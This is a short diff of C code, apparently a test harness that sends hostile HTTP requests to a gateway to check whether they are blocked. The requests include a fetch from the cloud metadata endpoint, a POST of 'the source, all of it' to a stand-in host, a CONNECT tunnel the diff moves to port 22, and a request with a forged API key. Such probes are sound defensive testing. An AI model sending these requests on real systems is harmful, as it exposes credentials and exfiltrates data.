@@ -219,7 +219,7 @@ static void first_wave(const char *home) {
 static void second_wave(void) {
     ask("gateway-metadata", "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n", "");
     ask("gateway-post", "POST http://example.com/collect HTTP/1.1\r\nHost: example.com\r\n", "the source, all of it");
-    ask("gateway-tunnel", "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n", "");
+    ask("gateway-tunnel", "CONNECT example.com:22 HTTP/1.1\r\nHost: example.com:22\r\n", "");
     ask("gateway-forged-handle",
         "POST /model/scripted/v1/messages HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
         "X-Api-Key: vh_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n",
